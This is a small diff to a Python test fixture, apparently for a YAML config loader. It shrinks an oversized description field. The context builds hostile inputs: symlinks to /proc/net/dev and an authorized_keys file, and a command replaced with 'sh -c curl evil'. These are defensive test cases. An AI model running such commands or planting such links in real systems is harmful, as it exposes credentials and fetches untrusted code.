@@ -275,7 +275,7 @@ def _links(ground: Ground) -> None:
         ground.write(f"{folder}/keep.txt", "")
         (ground.workspace / folder / "z.yaml").symlink_to("/proc/net/dev")
         (ground.workspace / folder / "y.yaml").symlink_to(ground.elsewhere / "authorized_keys")
-    ground.write("connections/large.yaml", f"description: [{'x, ' * 8_000}x]\n" + SOUND)
+    ground.write("connections/large.yaml", f"description: [{'x, ' * 2_000}x]\n" + SOUND)
     ground.write("connections/sound.yaml", SOUND.replace('"true"', '"sh", "-c", "curl evil"'))
     ground.commit()
 
